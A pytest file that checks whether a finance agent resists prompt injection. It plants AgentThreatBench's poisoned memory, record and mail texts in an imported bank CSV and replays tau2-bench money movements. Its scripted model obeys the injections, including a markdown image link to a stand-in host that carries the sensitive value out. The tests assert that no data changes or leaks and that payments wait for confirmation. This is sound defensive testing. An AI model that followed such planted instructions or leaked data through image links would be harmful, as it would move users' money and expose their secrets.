"""What benchmarks of models put into an agent's memory, records and mail, delivered by a bank to a model that obeys all
of it: AgentThreatBench's 24 samples, and the money that tau2-bench's bank moves."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from decimal import Decimal
from typing import Any

import orjson
import pytest
from attacks import agent_threat_bench, tau2_bank

Sample = dict[str, Any]


def poisoned(sample: Sample) -> list[str]:
    """Every text of a sample that its agent reads."""
    rows = [*sample.get("memory_store", {}).items(), *(tuple(r.items()) for r in sample.get("customer_db", ()))]
    mails = [(mail["from"], f"{mail['subject']}: {mail['body']}") for mail in sample.get("inbox", ())]
    return [orjson.dumps(row).decode() for row in (*rows, *mails)]


SAMPLES = [s for name in ("memory_poison", "data_exfil", "autonomy_hijack") for s in agent_threat_bench(name)]


async def bank_says(client: Any, rows: list[tuple[str, str, str]]) -> None:
    """Rows of a bank's file: amount, merchant, memo."""
    out = io.StringIO()
    csv.writer(out).writerows([("Date", "Amount", "Description", "Memo"), *(("2026-11-20", *row) for row in rows)])
    sent = await client.post(
        "/v1/imports", data={"account": "Checking"}, files={"file": ("bank.csv", out.getvalue().encode(), "text/csv")}
    )
    assert sent.status_code in (200, 201), sent.text


@pytest.mark.parametrize("sample", SAMPLES, ids=lambda sample: f"{sample['id']}-{sample['attack_name']}")
async def test_a_poisoned_sample_gains_nothing(sample: Sample, stage: Any, target: Any, bystander: Any) -> None:
    """The model reads it, remembers it, renames with it, pays for it and sends it on by an image: nothing is
    remembered, no row changes, a payment that it proposes waits and is marked, and nobody else's rows are told."""
    texts = poisoned(sample)
    await bank_says(target.client, [(f"-{n + 10}.00", text[:100], text[:400]) for n, text in enumerate(texts)])
    mine, theirs = await stage.rows(target.user), await stage.rows(bystander.user)
    goods = [
        *sample.get("sensitive_fields", ()),
        *sample.get("forbidden_actions", ()),
        sample.get("attack_marker") or "",
    ]
    good = next(filter(None, goods), "marker")
    calls = [
        ("remember_fact", {"text": texts[0][:300]}),
        ("create_category", {"name": good[:40]}),
        ("add_transaction", {"merchant": good[:60], "amount": 45.99, "memo": texts[-1][:100]}),
        ("list_transactions", {"text": good[:60]}),
    ]
    stage.model.play(
        [
            {"tool_calls": [{"name": "list_transactions", "args": {}}, {"name": "list_facts", "args": {}}]},
            {"tool_calls": [{"name": name, "args": args} for name, args in calls]},
            {"text": f"{good} ![ok](https://audit.example/?q={good})"},
        ]
    )
    said = await target.client.post(
        f"/v1/sessions/{target.ids['session']}/messages",
        json={"text": sample["input"]},
        headers={"Accept": "application/json"},
    )
    assert said.status_code == 200, said.text
    assert await stage.rows(target.user) == mine
    assert await stage.rows(bystander.user) == theirs
    assert (await target.client.get("/v1/facts")).json()["items"] == []
    for proposal in said.json()["proposals"]:
        assert proposal["status"] == "pending"
        assert proposal["unsaid"] or proposal["kind"] == "create_category", proposal
    for secret in bystander.secrets:
        assert secret not in said.text


def movements() -> Iterator[tuple[str, Decimal]]:
    """What money tau2's tasks have their agent move: the bank's procedure and the amount."""
    for action in tau2_bank()[1]:
        name = action["arguments"].get("agent_tool_name", "")
        given = action["arguments"].get("arguments")
        given = orjson.loads(given) if isinstance(given, str) else given or {}
        if action["name"] == "call_discoverable_agent_tool" and "amount" in given:
            yield name.rpartition("_")[0], Decimal(str(given["amount"])).quantize(Decimal("0.01"))


async def test_taus_bank_moves_no_money_unasked(stage: Any, target: Any, tell: Callable[[str], None]) -> None:
    """Each movement as a proposal of a model whom nobody asked: no row until the user confirms; then exactly it, once,
    and undone exactly. A bank clerk's tools (unlocking, verifying, closing accounts) have no counterpart here."""
    await bank_says(target.client, [("5000.00", "Opening", ""), ("-1.00", "Acme Shop", "")])
    moved = list(movements())
    assert len(moved) >= 15
    before = await stage.rows(target.user)
    for name, amount in moved:
        call = (
            ("transfer_between_accounts", {"from_account": "Checking", "to_account": "Card", "amount": str(amount)})
            if name.startswith(("transfer", "pay"))
            else ("add_transaction", {"merchant": "Acme Shop", "amount": str(amount), "account": "Checking"})
        )
        stage.model.play([{"tool_calls": [{"name": call[0], "args": call[1]}]}, {"text": "Done."}])
        said = await target.client.post(
            f"/v1/sessions/{target.ids['session']}/messages",
            json={"text": "hello"},
            headers={"Accept": "application/json"},
        )
        assert await stage.rows(target.user) == before, name
        (proposal,) = said.json()["proposals"]
        assert proposal["unsaid"], proposal
        path = f"/v1/proposals/{proposal['id']}/confirm"
        done = [await target.client.post(path, json={"hash": proposal["hash"]}) for _ in range(2)]
        assert {answer.json()["journal_id"] for answer in done} == {done[0].json()["journal_id"]}
        amounts = (await target.client.get("/v1/transactions", params={"limit": 5})).json()["items"]
        assert abs(amounts[0]["amount"]["minor"]) == int(amount * 100), name
        await target.client.post(f"/v1/journal/{done[0].json()['journal_id']}/undo")
        after = await stage.rows(target.user)
        assert [len(after["txn"]), after["budget"]] == [len(before["txn"]), before["budget"]]
        before = after
    tell(f"tau2's bank: {len(moved)} movements, none without a decision; AgentThreatBench: {len(SAMPLES)} samples")
